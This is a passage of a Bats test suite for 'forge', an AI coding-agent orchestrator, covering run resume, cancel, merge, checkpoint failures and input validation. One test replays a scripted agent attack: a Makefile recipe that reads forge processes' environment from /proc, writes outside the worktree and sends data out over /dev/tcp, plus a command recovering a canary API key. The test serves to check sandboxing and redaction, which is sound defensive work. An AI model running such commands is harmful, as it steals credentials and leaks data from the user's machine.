	run -0 --separate-stderr forge cancel "$T2"
	[ ! -e "$(runs_dir)/$T2" ]
	# the older one is resumed where it is, and goes from there
	forge gate approve "$G" >/dev/null
	run -0 --separate-stderr forge resume --config "$CONFIGS/high-risk.json" "$T" </dev/null
	run -0 forge status --json "$T"
	jq -e --arg wt "$REPO/.forge/worktrees/$T" '.run.status == "completed" and .state.task.worktree == $wt' <<<"$output"
	[ "$(git -C "$REPO/.forge/worktrees/$T" log --format=%s -1)" = "forge: add a mul operation (attempt 1)" ]
	run -0 --separate-stderr forge diff "$T"
	[[ $output == *calc_mul* ]]
	run -0 --separate-stderr forge merge "$T"
	run -0 --separate-stderr forge gc
	assert_line "removed worktree $REPO/.forge/worktrees/$T"
	[ ! -e "$REPO/.forge/worktrees/$T" ]
	[ "$(git -C "$REPO" worktree list | wc -l)" -eq 1 ]
}

@test "a paused run of a repository that moved resumes in its new place" {
	replay run-highrisk.jsonl
	run -4 --separate-stderr forge run --config "$CONFIGS/high-risk.json" "add a mul operation" </dev/null
	T=$(last_trace)
	forge gate approve "$(forge gate list --json | jq -r .id)" >/dev/null
	wt=$(run_worktree "$T")
	[ "$(dirname "$wt")" = "$(runs_dir)" ]
	cd "$BATS_TEST_TMPDIR" && mv "$REPO" "$BATS_TEST_TMPDIR/moved" && cd "$BATS_TEST_TMPDIR/moved"
	# the checkout's runs dir is another now; the run's worktree stays where
	# it was made, found through git's record of it
	[ "$(runs_dir .)" != "$(dirname "$wt")" ]
	run -0 forge status --json "$T"
	jq -e --arg wt "$wt" '.state.task.worktree == $wt' <<<"$output"
	run -0 --separate-stderr forge show "$T"
	run -0 --separate-stderr forge diff "$T"
	# (before: exit 5 on every resume, "cannot use repository '<old path>'")
	run -0 --separate-stderr forge resume --config "$CONFIGS/high-risk.json" "$T" </dev/null
	run -0 forge status --json "$T"
	jq -e --arg r "$BATS_TEST_TMPDIR/moved" --arg wt "$wt" '.run.status == "completed" and .state.task.repo == $r and
		.state.task.worktree == $wt' <<<"$output"
	# linked back to the moved repository; its runs dir names it
	[ "$(git -C "$wt" rev-parse --git-common-dir)" = "$BATS_TEST_TMPDIR/moved/.git" ]
	[ "$(cat "$(dirname "$wt")/root")" = "$BATS_TEST_TMPDIR/moved" ]
	run -0 forge events replay "$T"
	jq -s -e --arg r "$BATS_TEST_TMPDIR/moved" '[.[] | select(.type == "run.adopted") | .payload.repo] == [$r]' <<<"$output"
	[ "$(git log --format=%s -1 "forge/$T")" = "forge: add a mul operation (attempt 1)" ]
}

@test "a paused run resumed in a copy of its repository works in the copy, not in the original" {
	replay run-highrisk.jsonl
	run -4 --separate-stderr forge run --config "$CONFIGS/high-risk.json" "add a mul operation" </dev/null
	T=$(last_trace)
	forge gate approve "$(forge gate list --json | jq -r .id)" >/dev/null
	orig=$(git rev-parse "forge/$T")
	cp -a "$REPO" "$BATS_TEST_TMPDIR/copy" && cd "$BATS_TEST_TMPDIR/copy"
	# (before: the copy's worktree links named the original's, and the run went on there)
	run -0 --separate-stderr forge resume --config "$CONFIGS/high-risk.json" "$T" </dev/null
	[ "$(git -C "$REPO" rev-parse "forge/$T")" = "$orig" ]
	[ "$(git log --format=%s -1 "forge/$T")" = "forge: add a mul operation (attempt 1)" ]
	run -0 forge status --json "$T"
	jq -e --arg r "$BATS_TEST_TMPDIR/copy" '.run.status == "completed" and .state.task.repo == $r' <<<"$output"
	# the copy's worktree is its own; the original's is left as it was, still git's
	[ "$(run_worktree "$T" .)" = "$(runs_dir .)/$T" ]
	[ "$(git -C "$(run_worktree "$T")" rev-parse --git-common-dir)" = "$REPO/.git" ]
	[ "$(git -C "$(run_worktree "$T")" rev-parse HEAD)" = "$orig" ]
}

@test "an edit made in a paused run's worktree is kept on a ref and named on stderr when the run resumes" {
	replay run-highrisk.jsonl
	run -4 --separate-stderr forge run --config "$CONFIGS/high-risk.json" "add a mul operation" </dev/null
	T=$(last_trace)
	forge gate approve "$(forge gate list --json | jq -r .id)" >/dev/null
	echo "my note" >"$(run_worktree "$T")/NOTE"
	git -C "$(run_worktree "$T")" add NOTE
	git -C "$(run_worktree "$T")" commit -q -m "a person's commit"
	run -0 --separate-stderr forge resume --config "$CONFIGS/high-risk.json" "$T" </dev/null
	# (before: only a worktree.recovered event said where it went)
	[[ $stderr == *"forge resume: the run's worktree had changes its last checkpoint does not have: kept on refs/forge/$T/saved/1"* ]]
	[ "$(git show "refs/forge/$T/saved/1:NOTE")" = "my note" ]
}

@test "a resume that cannot save the worktree's changes (a stale lock of the saved ref) stops before any phase: nothing committed, the worktree as it was" {
	replay run-highrisk.jsonl
	run -4 --separate-stderr forge run --config "$CONFIGS/high-risk.json" "add a mul operation" </dev/null
	T=$(last_trace)
	wt="$(run_worktree "$T")"
	forge gate approve "$(forge gate list --json | jq -r .id)" >/dev/null
	head=$(git rev-parse "forge/$T")
	echo "my note" >"$wt/NOTE"
	# (what a resume killed while it saved leaves)
	lock="$REPO/.git/refs/forge/$T/saved/1.lock"
	mkdir -p "${lock%/*}" && touch -d '1 hour ago' "$lock"
	# (before: the failed save went unsaid, and NOTE was committed into the run)
	run -5 --separate-stderr forge resume --config "$CONFIGS/high-risk.json" "$T" </dev/null
	[[ $stderr == *"forge resume: cannot save the run's worktree before its phase runs again: "*"; the worktree was left as it is and nothing was resumed"* ]]
	[[ $stderr == *"forge resume: '$lock' is a stale lock (older than this resume, which holds the run): a process stopped while it saved left it; remove it, then \`forge resume $T\`"* ]]
	[[ $stderr != *"▶ implement"* ]]
	[ "$(git rev-parse "forge/$T")" = "$head" ]
	[ "$(cat "$wt/NOTE")" = "my note" ]
	# the run stays resumable: once the lock is gone, the note is kept on a ref
	rm "$lock"
	run -0 --separate-stderr forge resume --config "$CONFIGS/high-risk.json" "$T" </dev/null
	[[ $stderr == *"kept on refs/forge/$T/saved/1"* ]]
	[ "$(git show "refs/forge/$T/saved/1:NOTE")" = "my note" ]
	run -128 git cat-file -e "forge/$T:NOTE"
}

@test "--phases implement,review,test: a run without a plan starts at implement" {
	# the task becomes a one-task plan of unassessed (medium) risk, so the AI
	# review runs: run-clean's answers plus a clean fast review
	{ grep -v '"phase":"plan"' "$CASSETTES/run-clean.jsonl"
	  grep -m1 '"phase":"review-fast"' "$CASSETTES/run-review-bounce.jsonl"; } >"$BATS_TEST_TMPDIR/c.jsonl"
	export FORGE_PROVIDER=replay FORGE_CASSETTE="$BATS_TEST_TMPDIR/c.jsonl"
	run -0 --separate-stderr forge run --phases implement,review,test --json "add a mul operation" </dev/null
	tail -n 1 <<<"$output" | jq -e '.phase == "test" and .status == "ok" and .changes.commit != null
		and .plan.tasks[0].description == "add a mul operation" and .plan.risk.level == "medium"'
	T=$(last_trace)
	run -0 events_of "$T" plan.from_task
	run -0 transitions "$T"
	assert_output "$(printf '%s\n' idle\>implementing implementing\>reviewing reviewing\>testing testing\>completed)"
}

@test "every phase starts with the one before it checkpointed and no write held" {
	# The supervisor's own programs, with phases that first look at the
	# database as they find it: the checkpoint before them committed, and a
	# write of their own not kept waiting (sqlite3 has no busy timeout: it
	# fails at once while another connection holds a write).
	skip_on_postgres "a phase's own sqlite3 takes the SQLite file's write lock"
	replay run-clean.jsonl
	BIN="$BATS_TEST_TMPDIR/bin"
	mkdir -p "$BIN"
	cp "$FORGE_BINDIR"/forge-supervisor "$BIN"/
	for p in plan implement review test deploy; do
		cat >"$BIN/forge-$p" <<EOF
#!/usr/bin/env bash
{ printf '$p after %s: ' "\$(sqlite3 "$FORGE_DB" 'SELECT phase FROM checkpoints ORDER BY rowid DESC LIMIT 1')"
  sqlite3 "$FORGE_DB" 'BEGIN IMMEDIATE; ROLLBACK;' && echo write; } >>"$BATS_TEST_TMPDIR/seen" 2>&1
exec "$FORGE_BINDIR/forge-$p" "\$@"
EOF
		chmod +x "$BIN/forge-$p"
	done
	run -0 --separate-stderr "$BIN/forge-supervisor" run -q "add a mul operation" </dev/null
	run -0 cat "$BATS_TEST_TMPDIR/seen"
	assert_output "$(printf '%s\n' "plan after init: write" "implement after plan: write" "review after implement: write" \
		"test after review: write" "deploy after test: write")"
	[ "$(db_q "SELECT status FROM runs WHERE id = '$(last_trace)'")" = completed ]
}

# no_first_checkpoint: the COMMIT of the run's first checkpoint ("init")
# fails, as on a disk full at that moment (a deferred foreign key that does
# not hold: the statement passes, the commit does not).
no_first_checkpoint() {
	forge-db migrate >/dev/null
	sqlite3 "$FORGE_DB" "CREATE TABLE no_room (r TEXT REFERENCES runs (id) DEFERRABLE INITIALLY DEFERRED);
		CREATE TRIGGER no_room AFTER INSERT ON checkpoints WHEN new.phase = 'init'
		BEGIN INSERT INTO no_room VALUES ('no such run'); END"
}

@test "the first checkpoint not committed: no phase starts, the run is marked failed, and resume says to start it again" {
	skip_on_postgres "a SQLite trigger stands for the full disk"
	no_first_checkpoint
	replay run-clean.jsonl
	run -5 --separate-stderr forge run "add a mul operation" </dev/null
	T=$(last_trace)
	# (before: forge-plan ran and was paid for, unrecorded, and the run said
	# "forge resume T when the database can be written again")
	[ "$(db_q "SELECT count(*) FROM llm_calls")" -eq 0 ]
	[[ $stderr != *"[plan]"* && $stderr != *"▶ plan"* && $stderr != *"forge resume"* ]]
	[[ $stderr == *"forge run: the run cannot be recorded: "*"FOREIGN KEY constraint failed"*"; it stops before its first checkpoint was kept, so it cannot be resumed: start the task again with \`forge run\` once the database can be written (run $T is marked failed: \`forge gc\` removes what it left)" ]]
	[ "$(forge history --json -n 1 | jq -r .status)" = failed ]
	[ "$(db_q "SELECT count(*) FROM checkpoints")" -eq 0 ]
	# the database can be written again: resume says what to do
	db_q "DROP TRIGGER no_room" >/dev/null
	run -5 --separate-stderr forge resume "$T" </dev/null
	[ "$stderr" = "forge resume: run $T has no checkpoint to resume from: it stopped before its first one was kept (the database could not be written before the run's first checkpoint), so none of its work was; start the task again with \`forge run\` (it is marked failed: \`forge gc\` removes what it left)" ]
	run -0 forge gc
	assert_output --partial "removed worktree"
	[ -z "$(git -C "$REPO" branch --list "forge/$T")" ]
}

@test "a run stopped before its first checkpoint that could not even be marked failed: forge resume marks it, and forge gc then removes it" {
	skip_on_postgres "a SQLite trigger stands for the full disk"
	no_first_checkpoint
	db_q "CREATE TRIGGER no_end BEFORE UPDATE ON runs WHEN new.status = 'failed'
		BEGIN SELECT raise(ABORT, 'database or disk is full'); END" >/dev/null
	replay run-clean.jsonl
	run -5 --separate-stderr forge run "add a mul operation" </dev/null
	T=$(last_trace)
	[ "$(db_q "SELECT count(*) FROM llm_calls")" -eq 0 ]
	[[ $stderr == *"; it stops before its first checkpoint was kept, so it cannot be resumed: start the task again with \`forge run\` once the database can be written, and drop this run with \`forge cancel $T\`" ]]
	[ "$(forge history --json -n 1 | jq -r .status)" = interrupted ]
	run -0 forge gc --dry-run
	refute_output --partial "$T"
	db_q "DROP TRIGGER no_room; DROP TRIGGER no_end" >/dev/null
	run -5 --separate-stderr forge resume "$T" </dev/null
	[[ $stderr == "forge resume: run $T has no checkpoint to resume from: "*"(it is marked failed: \`forge gc\` removes what it left)" ]]
	[ "$(forge history --json -n 1 | jq -r .status)" = failed ]
	[ "$(forge history --json -n 1 | jq -r .error)" = "the run's process stopped before its first checkpoint was kept (killed, or the database could not be written)" ]
	run -0 forge gc
	assert_output --partial "removed worktree"
}

@test "a run killed before its first checkpoint: forge resume says so, not that the database could not be written" {
	# (what kill -9 of forge run leaves right after it made the run's row)
	forge-db migrate >/dev/null
	T=01ARZ3NDEKTSV4RRFFQ69G5FAV
	db_q "INSERT INTO runs (id, task, status, started_at, updated_at) VALUES ('$T', 'add a mul operation',
		'pending', '2026-01-01T00:00:00.000Z', '2026-01-01T00:00:00.000Z')" >/dev/null
	run -5 --separate-stderr forge resume "$T" </dev/null
	[ "$stderr" = "forge resume: run $T has no checkpoint to resume from: the run's process stopped before its first checkpoint was kept (killed, or the database could not be written), so there is nothing to resume; start the task again with \`forge run\` (it is marked failed: \`forge gc\` removes what it left)" ]
	[ "$(db_q "SELECT status || ' / ' || error FROM runs WHERE id = '$T'")" = "failed / the run's process stopped before its first checkpoint was kept (killed, or the database could not be written)" ]
}

@test "forge cancel: a paused run is cancelled, its gate rejected, and it does not resume" {
	replay run-highrisk.jsonl
	run -4 --separate-stderr forge run --config "$CONFIGS/high-risk.json" "add a mul operation" </dev/null
	T=$(last_trace)
	run -0 forge cancel "$T"
	run -0 forge status --json "$T"
	jq -e '.run.status == "cancelled" and .pending_gates == []' <<<"$output"
	run -0 events_of "$T" run.cancelled
	run -0 forge gate list --all --json
	jq -e '.status == "rejected" and .decided_by == "cancel"' <<<"$output"
	run -1 --separate-stderr forge resume "$T" </dev/null
	[[ "$stderr" == *"already cancelled"* ]]
	run -1 --separate-stderr forge cancel "$T"
}

@test "three runs on one repository at once stay isolated; the database stays consistent" {
	for id in a b c; do
		sed "s/@ID@/$id/g" "$CASSETTES/run-note.jsonl" >"$BATS_TEST_TMPDIR/$id.jsonl"
		FORGE_PROVIDER=replay FORGE_CASSETTE="$BATS_TEST_TMPDIR/$id.jsonl" \
			forge run --json "add NOTE-$id.md" </dev/null >"$BATS_TEST_TMPDIR/$id.out" 2>"$BATS_TEST_TMPDIR/$id.err" 3>&- &
		echo $! >"$BATS_TEST_TMPDIR/$id.pid"
	done
	for id in a b c; do
		wait "$(cat "$BATS_TEST_TMPDIR/$id.pid")" || { cat "$BATS_TEST_TMPDIR/$id.err"; false; }
	done
	declare -A trace
	for id in a b c; do
		last=$(tail -n 1 "$BATS_TEST_TMPDIR/$id.out")
		jq -e '.status == "ok" and .phase == "deploy"' <<<"$last"
		trace[$id]=$(jq -r .trace_id <<<"$last")
		# its own worktree and branch, with only its own change
		jq -e '.trace_id as $t | .task.branch == "forge/" + $t and (.task.worktree | endswith($t))' <<<"$last"
		run -0 git -C "$REPO" diff --name-only "$BASE" "forge/${trace[$id]}"
		assert_output "NOTE-$id.md"
		# every event it wrote is in the database
		[ "$(jq -s '[.[] | select(.kind == "event")] | length' "$BATS_TEST_TMPDIR/$id.out")" -eq \
		  "$(db_q "select count(*) from events where trace_id = '${trace[$id]}'")" ]
		run -0 transitions_chain "${trace[$id]}"
		[ "$(transitions "${trace[$id]}" | tail -n 1)" = "deploying>completed" ]
	done
	[ "${trace[a]}" != "${trace[b]}" ]
	[ "${trace[b]}" != "${trace[c]}" ]
	[ "${trace[a]}" != "${trace[c]}" ]
	db_intact
	run -0 db_q "select count(*) from runs where status = 'completed'"
	assert_output "3"
	run -0 git -C "$REPO" worktree list
	[ "${#lines[@]}" -eq 4 ]
	[ "$(git -C "$REPO" rev-parse HEAD)" = "$BASE" ]
}

@test "bad usage: exit 2 with a message" {
	run -2 --separate-stderr forge run
	[[ "$stderr" == *"run needs a task"* ]]
	run -2 --separate-stderr forge run --phases plan,frobnicate "x"
	[[ "$stderr" == *"unknown phase 'frobnicate'"* ]]
	run -2 --separate-stderr forge run --budget -3 "x"
	# (before: hex taken as $16, -0 as a budget of 0)
	for b in 0x10 -0 ' 5' 1e999 nan; do
		run -2 --separate-stderr forge run --budget "$b" "x"
		[[ "$stderr" == *"--budget wants a positive amount in USD, not '$b'"* ]]
	done
	run -2 --separate-stderr forge-supervisor frobnicate
	run -2 --separate-stderr forge resume
	run -2 --separate-stderr forge resume 01M0000000000000000000NONE </dev/null
	[[ "$stderr" == *"no run"* ]]
	run -2 --separate-stderr forge cancel 01M0000000000000000000NONE
	run -2 --separate-stderr forge run --repo "$BATS_TEST_TMPDIR/nowhere" "x"
}

# The attack of issue 21.1/21.2: the model only writes files -- a check recipe
# in the Makefile that writes outside the worktree, reads the environment of
# every forge process above it and connects to a loopback port; and a
# command that recovers the key from a file and writes it into the tree.
@test "an agent's Makefile recipe runs sandboxed under forge-test; a key that leaks is redacted everywhere" {
	KEY=sk-ant-api03-H6canaryKey0123456789abcdefXYZ
	OUT="$BATS_TEST_TMPDIR/outside"
	mkdir -p "$OUT"
	# the key, reversed, in a file of the repository (what the sandbox can read)
	mkdir -p "$REPO/notes" && rev <<<"$KEY" >"$REPO/notes/k.rev"
	# what the recipe writes in the tree, tracked: forge-test removes the
	# untracked files its tests leave in a run's worktree (test.cleaned)
	: >"$REPO/attack-ran" && : >"$REPO/stolen-env"
	git -C "$REPO" add -A && git -C "$REPO" commit -q -m notes
	# a loopback listener: one line per connection, until END
	python3 - "$BATS_TEST_TMPDIR/port" "$BATS_TEST_TMPDIR/conns" 3>&- <<-'PY' &
		import os, socket, sys
		s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(16)
		open(sys.argv[1] + ".tmp", "w").write(str(s.getsockname()[1])); os.rename(sys.argv[1] + ".tmp", sys.argv[1])
		while True:
		    c, _ = s.accept(); line = c.makefile().readline().strip(); c.close()
		    open(sys.argv[2], "a").write(line + "\n")
		    if line == "END": break
	PY
	LPID=$!
	until [ -s "$BATS_TEST_TMPDIR/port" ]; do sleep 0.05; done
	PORT=$(cat "$BATS_TEST_TMPDIR/port")
	bash -c "echo PROBE >/dev/tcp/127.0.0.1/$PORT"     # the way the recipe tries works from here
	RECIPE=$(printf '%s\n' \
		'	echo ran >>attack-ran' \
		'	touch stolen-env' \
		"	-echo pwned >$OUT/written" \
		"	-p=\$\$\$\$; while [ \$\$p -gt 1 ]; do case \$\$(cat /proc/\$\$p/comm) in forge*) cat /proc/\$\$p/environ >>stolen-env; cat /proc/\$\$p/environ >$OUT/environ-\$\$p;; esac; p=\$\$(awk '/^PPid:/ { print \$\$2 }' /proc/\$\$p/status); done" \
		"	-bash -c 'echo LEAK >/dev/tcp/127.0.0.1/$PORT'" \
		'	sh tests/check.sh ./calc')
	MAKEFILE=$(sed '/^check: calc/,/^$/d' "$REPO/Makefile"; printf 'check: calc\n%s\n' "$RECIPE")
	jq -nc --arg mk "$MAKEFILE" '
	  def call(p; id; name; input): {phase:p, attempt:1, response:{tool_calls:[{id:id, name:name, input:input}],
	    usage:{input_tokens:100, output_tokens:10}, model:"claude-sonnet-4-5"}};
	  call("plan"; "p1"; "finish"; {summary:"Tidy the check target.", architecture:{components:["Makefile"], interfaces:[], decisions:[]},
	    tasks:[{id:"t1", title:"check", description:"tidy", files:["Makefile"], depends_on:[], acceptance:["make check passes"]}],
	    risk:{level:"low", score:0.1, reasons:["small"]}, estimates:{complexity:"low", effort:"5m"}}),
	  call("implement"; "i1"; "run_command"; {command:"rev notes/k.rev; rev notes/k.rev >leak.txt"}),
	  call("implement"; "i2"; "write_file"; {path:"Makefile", content:$mk}),
	  call("implement"; "i3"; "finish"; {summary:"Tidied the check target.", files:["Makefile", "leak.txt"], tests:[]}),
	  call("review-fast"; "r1"; "report_findings"; {findings:[]})' \
		>"$BATS_TEST_TMPDIR/attack.jsonl"
	export FORGE_PROVIDER=replay FORGE_CASSETTE="$BATS_TEST_TMPDIR/attack.jsonl" ANTHROPIC_API_KEY=$KEY
	run -0 --separate-stderr forge run --auto-approve --json "tidy the check target" </dev/null
	JSON=$output
	T=$(tail -n 1 <<<"$JSON" | jq -r .trace_id)
	WT=$(tail -n 1 <<<"$JSON" | jq -r .task.worktree)
	# the recipe ran (in forge-implement's validation and in forge-test) ...
	[ -s "$WT/attack-ran" ]
	run -0 events_of "$T" test.started
	jq -e '.command == "make check"' <<<"$output"
	# ... and got nothing out: no file outside, no key, no connection
	run -0 ls -A "$OUT"
	assert_output ""
	run -1 grep -caF "$KEY" "$WT/stolen-env"
	bash -c "echo END >/dev/tcp/127.0.0.1/$PORT"
	wait "$LPID"
	[ "$(cat "$BATS_TEST_TMPDIR/conns")" = "$(printf 'PROBE\nEND')" ]
	# the key the command printed and wrote is redacted in the tool result, the stream, the database, the commit
	run -1 grep -cF "$KEY" <<<"$JSON"
	grep -qF "[REDACTED]" <<<"$JSON"
	run -0 db_dump
	refute_output --partial "$KEY"
	assert_output --partial "[REDACTED]"
	# the tool result the model got back (the next request, as logged: the
	# messages new to it, after call 1's)
	run -0 db_q "select request from llm_calls where phase = 'implement' and call = 2"
	jq -e '.messages.as_in.call == 1 and
		([.messages.then[] | select(.role == "tool") | .content] | any(startswith("[REDACTED]\n")))' <<<"$output"
	run -0 git -C "$REPO" log -p "$BASE..forge/$T"
	refute_output --partial "$KEY"
	run -0 git -C "$REPO" show "forge/$T:leak.txt"
	assert_output "[REDACTED]"
	# nowhere on disk either
	run -1 grep -rlaF "$KEY" "$BATS_TEST_TMPDIR"
}

# nothing_made: no run row, no worktree, no forge/* branch.
nothing_made() {
	no_run_worktrees
	[ -z "$(git -C "$REPO" branch --list 'forge/*')" ]
	[ "$(git -C "$REPO" worktree list | wc -l)" -eq 1 ]
	if [ -e "$REPO/.forge/forge.db" ]; then
		[ "$(sqlite3 "$REPO/.forge/forge.db" 'SELECT count(*) FROM runs')" -eq 0 ]
	fi
}

@test "a repository with files but no commit yet: exit 2 saying to commit them, before a run, worktree or branch exists" {
	replay run-clean.jsonl
	REPO="$BATS_TEST_TMPDIR/fresh"
	mkdir "$REPO"
	cp -r "$FORGE_ROOT/tests/fixtures/repos/calc/." "$REPO"
	cd "$REPO"
	git init -q -b main
	run -2 --separate-stderr forge run "add a mul operation" </dev/null
	assert_equal "$stderr" "forge run: no commits yet on main: a run starts from the last commit and would not see the files here; commit your files first (git add -A && git commit); nothing was started"
	run -0 forge history --json
	assert_output ""
	nothing_made
	# staged files are not a commit either; a dry run plans on the checkout as it is
	git add -A
	run -2 --separate-stderr forge run --phases plan "add a mul operation" </dev/null
	[[ "$stderr" == "forge run: no commits yet on main"* ]]
	nothing_made
	run -0 --separate-stderr forge run --dry-run --json "add a mul operation" </dev/null
	jq -e '(.tasks | length) == 2' <<<"$output"
	# a repository with nothing in it yet starts from an empty base commit
	EMPTY="$BATS_TEST_TMPDIR/empty"
	git init -q -b main "$EMPTY"
	cd "$EMPTY"
	run -0 --separate-stderr forge run --phases plan "add a mul operation" </dev/null
	run -0 git log --format=%s "forge/$(last_trace)"
	assert_output "forge: empty base commit"
}

@test "forge merge of a run from an empty repository creates the unborn branch at the run's commit" {
	replay run-clean.jsonl
	EMPTY="$BATS_TEST_TMPDIR/empty"
	git init -q -b trunk "$EMPTY"
	cd "$EMPTY"
	run -0 --separate-stderr forge run --phases plan "add a mul operation" </dev/null
	t=$(last_trace)
	# the run's work, as implement would have committed it
	wt="$(run_worktree "$t" "$EMPTY")"
	echo hello >"$wt/NEW.txt"
	git -C "$wt" add NEW.txt && git -C "$wt" commit -qm "the run's work"
	run -0 --separate-stderr forge merge "$t"
	assert_output --regexp "^merged forge/$t into trunk \\(fast-forward\\) at [0-9a-f]{12}$"
	[ "$(git rev-parse trunk)" = "$(git rev-parse "forge/$t")" ]
	[ "$(cat NEW.txt)" = hello ]
	[ -z "$(git status --porcelain)" ]
}

@test "a blank or oversized task: exit 2 before a run, worktree or branch exists" {
	replay run-clean.jsonl
	run -2 --separate-stderr forge run '' </dev/null
	[[ "$stderr" == "forge run: the task is empty: say what to do"* ]]
	nothing_made
	run -2 --separate-stderr forge run '  ' "$(printf '\t\n')" </dev/null
	[[ "$stderr" == *"the task is empty"* ]]
	nothing_made
	big=$(head -c 70000 /dev/zero | tr '\0' a)
	run -2 --separate-stderr forge run "$big" </dev/null
	[[ "$stderr" == *"the task is 70000 bytes, more than the limit of 65536 bytes"* ]]
	nothing_made
	run -2 --separate-stderr forge run "$(printf 'caf\xe9')" </dev/null
	[[ "$stderr" == *"not valid UTF-8"* ]]
	nothing_made
	# the phases' --task too
	run -2 --separate-stderr forge-plan --task ' ' </dev/null
	[[ "$stderr" == *"--task: the task is empty"* ]]
}

@test "a --base that names no commit: exit 2 before a run, worktree or branch exists, a dry run's too" {
	replay run-clean.jsonl
	# (before: exit 5 "cannot make the run's worktree" and a failed run in
	# forge history; a dry run ignored the --base)
	run -2 --separate-stderr forge run --base no-such-ref "add a mul operation" </dev/null
	[[ "$stderr" == "forge run: --base 'no-such-ref' names no commit in "*": cannot resolve 'no-such-ref': "*"; the checkout is on branch 'main' (--base main, or no --base: the checkout's HEAD); nothing was started" ]]
	run -0 forge history --json
	assert_output ""
	nothing_made
	run -2 --separate-stderr forge run --dry-run --base no-such-ref "add a mul operation" </dev/null
	[[ "$stderr" == "forge run: --base 'no-such-ref' names no commit in "* ]]
	run -2 --separate-stderr forge run --base HEAD:calc.c "add a mul operation" </dev/null
	[[ "$stderr" == *"'HEAD:calc.c' does not name a commit"* ]]
	run -0 forge history --json
	assert_output ""
	nothing_made
	# a base that names a commit starts the run
	run -0 --separate-stderr forge run --dry-run --json --base main "add a mul operation" </dev/null
	[ "$(forge history --json | wc -l)" -eq 1 ]
}

@test "a branch named forge, where the runs' forge/TRACE branches go: exit 2 naming it and what to do, before a run exists" {
	replay run-clean.jsonl
	git branch forge
	# (before: exit 5 with libgit2's "could not remove directory ... Not a
	# directory", and a failed run in forge history at each attempt)
	why="forge run: the repository has a branch named 'forge', which is in the way of the runs' branches forge/TRACE (git cannot hold a branch 'forge' and branches under 'forge/' at once); rename it (git branch -m forge NEW-NAME) and start again; nothing was started"
	run -2 --separate-stderr forge run "add a mul operation" </dev/null
	assert_equal "$stderr" "$why"
	run -0 forge history --json
	assert_output ""
	nothing_made
	# the same with the refs packed (libgit2's words were another collision)
	git pack-refs --all
	run -2 --separate-stderr forge run --phases plan "add a mul operation" </dev/null
	assert_equal "$stderr" "$why"
	nothing_made
	# renamed as said, the run starts
	git branch -m forge forge-old
	run -0 --separate-stderr forge run --phases plan "add a mul operation" </dev/null
	[ "$(git rev-parse "forge/$(last_trace)")" = "$BASE" ]
}

@test "a repository in a format libgit2 cannot open (sha256 objects): exit 2 naming the extension, before a run exists" {
	replay run-clean.jsonl
	S="$BATS_TEST_TMPDIR/s256"
	git init -q -b main --object-format=sha256 "$S" 2>/dev/null || skip "git cannot make a sha256 repository"
	echo a >"$S/a.txt" && git -C "$S" add -A && git -C "$S" commit -q -m a
	cd "$S"
	# (before: "'…' is not in a git repository: unsupported extension name
	# extensions.objectformat", exit 5 and a failed run in forge history)
	what="the repository at '$S' uses the git format extension extensions.objectFormat, as git init --object-format=sha256 sets it, which libgit2 "*" (the git library Forge is built on) cannot open; Forge works in repositories with SHA-1 object names only"
	run -2 --separate-stderr forge run "add a mul operation" </dev/null
	[[ $stderr == "forge run: "$what"; nothing was started" ]]
	run -0 forge history --json
	assert_output ""
	[ -z "$(git for-each-ref refs/heads/forge refs/forge)" ]
	run -2 --separate-stderr forge-review --no-input --base HEAD </dev/null
	[[ $stderr == "forge-review: "$what ]]
}

@test "--budget 0 and budget.usd 0 are refused (exit 2) before a run exists: a run that may spend nothing trips at once" {
	replay run-clean.jsonl
	# (before: --budget 0 made a run whose budget breaker tripped at once, exit 3)
	for b in 0 0.0 0e5; do
		run -2 --separate-stderr forge run --budget "$b" "add a mul operation" </dev/null
		[[ "$stderr" == *"--budget wants a positive amount in USD, not '$b'"* ]]
		run -2 --separate-stderr forge resume --budget "$b" 01M0000000000000000000NONE </dev/null
		[[ "$stderr" == *"--budget wants a positive amount in USD, not '$b'"* ]]
		run -2 --separate-stderr forge compile --budget "$b" "a todo-list HTTP API" </dev/null
		[[ "$stderr" == *"--budget wants a positive amount in USD, not '$b'"* ]]
	done
	run -0 forge history --json
	assert_output ""
	nothing_made
	run -2 --separate-stderr forge config set budget.usd 0
	[[ "$stderr" == *".budget.usd: 0 is not greater than 0" ]]
	FORGE_BUDGET_USD=0 run -2 --separate-stderr forge run "add a mul operation" </dev/null
	[[ "$stderr" == *"FORGE_BUDGET_USD: .budget.usd: 0 is not greater than 0"* ]]
	nothing_made
	run -0 --separate-stderr forge config set budget.usd 0.5
}

@test "a shallow clone (CI's depth 1): the run's branch fast-forwards into it" {
	git -C "$REPO" commit -q --allow-empty -m "a second commit, cut off by the shallow clone"
	git clone -q --depth 1 "file://$REPO" "$BATS_TEST_TMPDIR/shallow"
	cd "$BATS_TEST_TMPDIR/shallow"
	[ "$(git rev-parse --is-shallow-repository)" = true ]
	replay run-clean.jsonl
	run -0 --separate-stderr forge run "add a mul operation" </dev/null
	T=$(last_trace)
	# (before: exit 5, "object not found", from libgit2's walk past the cut)
	run -0 --separate-stderr forge merge "$T"
	[ "$(git rev-parse main)" = "$(git rev-parse "forge/$T")" ]
}

@test "time paused at a gate is not the run's: approved two hours later, the run goes on under a one-hour limit" {
	skip_on_postgres "it moves an event of the SQLite file back by hand"
	replay run-highrisk.jsonl
	jq '. + {safety: {time_s: {total: 3600}}}' "$CONFIGS/high-risk.json" >"$BATS_TEST_TMPDIR/limit.json"
	run -4 --separate-stderr forge run --config "$BATS_TEST_TMPDIR/limit.json" "add a mul operation" </dev/null
	T=$(last_trace)
	# two hours ago it started, and paused a second later (no test waits):
	# its run.paused moved back, in place (a trace's events are read in the
	# order they were stored)
	started=$(date -u -d '-2 hours' +%Y-%m-%dT%H:%M:%S.000Z)
	paused=$(date -u -d '-2 hours +1 second' +%Y-%m-%dT%H:%M:%S.000Z)
	db_q "update runs set started_at = '$started' where id = '$T'"
	db_q "drop trigger events_no_update;
		update event_log set ts = '$paused', record = json_set(record, '\$.ts', '$paused')
		where trace_id = '$T' and type = 'run.paused'"
	run -0 forge gate approve "$(forge gate list --json | jq -r .id)"
	# (before: exit 3, "breaker time tripped: the run has taken 7200 s", at every resume)
	run -0 --separate-stderr forge resume --config "$BATS_TEST_TMPDIR/limit.json" "$T" </dev/null
	[ "$(forge status --json "$T" | jq -r .run.status)" = completed ]
}

@test "the clock stepped back an hour between a pause and its resume: the run's history keeps the order it was written in" {
	[ "${FORGE_SUITE:-default}" = default ] || skip "a preloaded library cannot come before the sanitizers' runtime"
	cc -shared -fPIC -o "$BATS_TEST_TMPDIR/clock.so" "$FORGE_ROOT/tests/fixtures/preload/host-clock.c" -ldl
